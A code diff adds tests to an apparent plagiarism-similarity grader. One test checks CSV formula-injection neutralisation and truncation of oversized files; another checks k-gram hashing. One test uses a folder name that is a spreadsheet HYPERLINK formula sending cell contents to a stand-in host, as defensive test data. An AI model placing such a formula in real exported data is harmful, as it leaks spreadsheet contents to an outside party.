@@ -210,3 +210,44 @@ def test_docstring_examples(name: str) -> None:
 
     result = doctest.testmod(importlib.import_module(name), optionflags=doctest.ELLIPSIS)
     assert result.failed == 0 and result.attempted > 0
+
+
+def test_hostile_names_and_a_huge_module_are_neutralised_and_cut(tmp_path) -> None:
+    """Issue 34: folder names that are spreadsheet formulas reach similarity.csv quoted; a one-line module
+    far over the bound is cut before it is tokenized, and the report says so."""
+    from autograder.similarity import MAX_FILE_CHARACTERS
+
+    submissions = tmp_path / "class"
+    names = ['=HYPERLINK("evil.example?"&A1,"y")', "+SUM(1,2)", "@SUM(1+1)", "-3.5"]
+    for name in names:
+        shutil.copytree(HERE / "submissions" / "correct_dicts", submissions / name)
+    (submissions / names[1] / "huge.py").write_text("x = " + "+".join(f"v{i}" for i in range(60_000)) + "\n")
+    result = ftr("similarity", str(submissions), "--out", str(tmp_path / "out"))
+    assert result.returncode == 0, result.stderr
+    assert "cut: +SUM(1,2): huge.py has " in result.stderr and f"the first {MAX_FILE_CHARACTERS:,} compared" in result.stderr
+    rows = list(csv.reader((tmp_path / "out" / "similarity.csv").open()))
+    cells = {cell for row in rows[1:] for cell in row[1:3]}
+    assert cells == {"'" + names[0], "'" + names[1], "'" + names[2], "-3.5"}   # -3.5 is a number, not a formula
+    page = (tmp_path / "out" / "similarity.html").read_text()
+    assert "What the bounds cut" in page and "huge.py has" in page
+
+
+def test_kgram_hashes_are_a_fixed_function_of_the_text() -> None:
+    """A referee written differently: the polynomial hash of each k-gram in plain Python integers
+    (modulo 2**64, then the same finaliser), against the vectorised one."""
+    from autograder.similarity import kgram_hashes
+
+    def one(text: str) -> int:
+        mask = 2**64 - 1
+        value = 0
+        for character in text:
+            value = (value * 1_000_003 + ord(character)) & mask
+        value ^= value >> 30
+        value = (value * 0xBF58476D1CE4E5B9) & mask
+        value ^= value >> 27
+        value = (value * 0x94D049BB133111EB) & mask
+        value ^= value >> 31
+        return value >> 12
+
+    text = "def f(V):\n    return V * V + 1  # é\n" * 3
+    assert kgram_hashes(text, 25).tolist() == [one(text[i:i + 25]) for i in range(len(text) - 24)]
